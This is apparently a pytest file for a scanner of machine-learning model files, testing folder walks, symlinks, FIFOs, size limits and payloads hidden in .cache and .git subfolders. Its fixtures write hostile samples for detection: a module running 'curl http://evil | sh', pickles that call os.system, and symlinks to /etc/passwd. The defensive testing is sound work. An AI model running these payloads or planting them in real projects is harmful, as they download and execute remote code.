"""The folder walk of `scan`: HF-cache snapshots, symlinks out of the folder, special files."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from dflash_guard.errors import InputError
from dflash_guard.scan import scan_paths
from tests.support.scan_builders import gadget_pickle, write_safetensors


def _hf_snapshot(tmp_path: Path) -> Path:
    """`models--o--r/snapshots/abc/` whose files link to `../../blobs/<hash>`, as the Hub cache."""
    repo = tmp_path / "hub" / "models--o--r"
    (repo / "blobs").mkdir(parents=True)
    snapshot = repo / "snapshots" / "abc"
    snapshot.mkdir(parents=True)
    write_safetensors(repo / "blobs" / "1111")
    (repo / "blobs" / "2222").write_bytes(gadget_pickle("os", "system", protocol=2))
    (snapshot / "model.safetensors").symlink_to("../../blobs/1111")
    (snapshot / "extra.bin").symlink_to("../../blobs/2222")
    return snapshot


def test_hf_cache_snapshot_is_scanned_through_its_blob_links(tmp_path: Path) -> None:
    report = scan_paths([_hf_snapshot(tmp_path)])
    assert report.files_scanned == 2 and report.param_count
    rules = {(f.file, f.rule_id) for f in report.findings}
    assert ("extra.bin", "DG-PICKLE-DANGEROUS-GLOBAL") in rules
    assert not any(f.rule_id == "DG-UNSCANNABLE" for f in report.findings)


def test_symlink_out_of_the_folder_is_reported_not_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside.bin"
    outside.write_bytes(gadget_pickle("os", "system", protocol=2))
    model = tmp_path / "model"
    model.mkdir()
    write_safetensors(model / "model.safetensors")
    (model / "weights.bin").symlink_to(outside)
    (model / "passwd").symlink_to("/etc/passwd")
    (model / "etc").symlink_to("/etc")
    report = scan_paths([model])
    unscannable = {f.file: f.message for f in report.findings if f.rule_id == "DG-UNSCANNABLE"}
    assert set(unscannable) == {"weights.bin", "passwd", "etc"}
    assert "points outside" in unscannable["weights.bin"]
    assert not any(f.rule_id.startswith("DG-PICKLE") for f in report.findings)  # not followed
    assert report.files_scanned == 1 and report.fails()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs mkfifo")
def test_special_files_are_reported_or_refused(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    report = scan_paths([tmp_path])
    assert [(f.file, f.rule_id) for f in report.findings] == [("pipe", "DG-UNSCANNABLE")]
    with pytest.raises(InputError, match="not a regular file or folder"):
        scan_paths([tmp_path / "pipe"])


def test_fifo_named_config_json_is_reported_not_read(tmp_path: Path) -> None:
    """Opening a FIFO blocks until a writer comes: the scan must refuse it, never wait on it."""
    os.mkfifo(tmp_path / "config.json")
    write_safetensors(tmp_path / "model.safetensors")
    report = scan_paths([tmp_path])
    assert ("config.json", "DG-UNSCANNABLE") in {(f.file, f.rule_id) for f in report.findings}


def test_open_regular_refuses_a_fifo_without_blocking(tmp_path: Path) -> None:
    from dflash_guard.fileio import read_json

    fifo = tmp_path / "tokenizer_config.json"
    os.mkfifo(fifo)
    with pytest.raises(OSError, match="not a regular file"):
        read_json(fifo)


@pytest.mark.parametrize("name", ["chat_template.jinja", "modeling_drafter.py"])
def test_a_text_file_over_the_limit_is_unscannable_not_read_whole(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    """Templates and remote code are read up to `MAX_TEXT_BYTES` (a 10 GB `.jinja` would fill
    memory): past it the file is not scanned, and says so."""
    from dflash_guard import fileio

    monkeypatch.setattr(fileio, "MAX_TEXT_BYTES", 1024)
    (tmp_path / name).write_text("x = 1\n" * 400)
    report = scan_paths([tmp_path])
    unscannable = [f.message for f in report.findings if f.rule_id == "DG-UNSCANNABLE"]
    assert unscannable == [f"cannot read: {tmp_path / name}: larger than 1,024 bytes"]
    assert report.fails()


def _hidden_payloads(folder: Path) -> None:
    """N1: a module and a pickle in nested `.cache`/`.git` folders, an index naming the pickle."""
    (folder / "ckpt" / ".cache").mkdir(parents=True)
    (folder / "ckpt" / ".git").mkdir(parents=True)
    (folder / "ckpt" / ".cache" / "modeling_evil.py").write_text(
        'import os\nos.system("curl http://evil | sh")\n')
    (folder / "ckpt" / ".git" / "pytorch_model.bin").write_bytes(
        b"\x80\x04cos\nsystem\nX\x02\x00\x00\x00id\x85R.")
    (folder / "pytorch_model.bin.index.json").write_text(
        '{"metadata":{"total_size":1},"weight_map":{"fc.weight":"ckpt/.git/pytorch_model.bin"}}')


def test_scan_sees_what_lock_and_verify_list(tmp_path: Path) -> None:
    """One walk: every file `list_folder` gives lock and verify is scanned, nested .git too."""
    from dflash_guard.pins.folder import list_folder

    model = tmp_path / "model"
    model.mkdir()
    write_safetensors(model / "model.safetensors")
    _hidden_payloads(model)
    (model / ".cache").mkdir()
    (model / ".cache" / "ignored.lock").write_text("")  # top-level bookkeeping: nobody lists it
    listed, _ = list_folder(model)
    report = scan_paths([model])
    assert report.files_scanned == len(listed) == 4
    found = {(f.file, f.rule_id) for f in report.findings}
    assert ("ckpt/.cache/modeling_evil.py", "DG-RC-PROCESS") in found
    assert ("ckpt/.git/pytorch_model.bin", "DG-PICKLE-DANGEROUS-GLOBAL") in found
    # vLLM reads weights from the folder's top level only, and llama.cpp none: not loaded, its
    # findings reported apart; the index that names it is loaded, and refused
    assert "subfolder" in report.not_loaded["ckpt/.git/pytorch_model.bin"]
    assert "ckpt/.git/pytorch_model.bin" not in report.pickle_files
    assert ("pytorch_model.bin.index.json", "DG-ST-INDEX-PATH") in found  # names a .git path
    assert report.fails()


def test_index_into_top_level_bookkeeping_folder_is_refused(tmp_path: Path) -> None:
    """A shard in the top-level `.cache` (left out of lock, verify and scan) is never loaded."""
    model = tmp_path / "model"
    (model / ".cache").mkdir(parents=True)
    (model / ".cache" / "w.bin").write_bytes(gadget_pickle("os", "system", protocol=2))
    (model / "pytorch_model.bin.index.json").write_text(
        '{"weight_map":{"fc.weight":".cache/w.bin"}}')
    report = scan_paths([model])
    assert [(f.file, f.rule_id) for f in report.findings] == [
        ("pytorch_model.bin.index.json", "DG-ST-INDEX-PATH")]
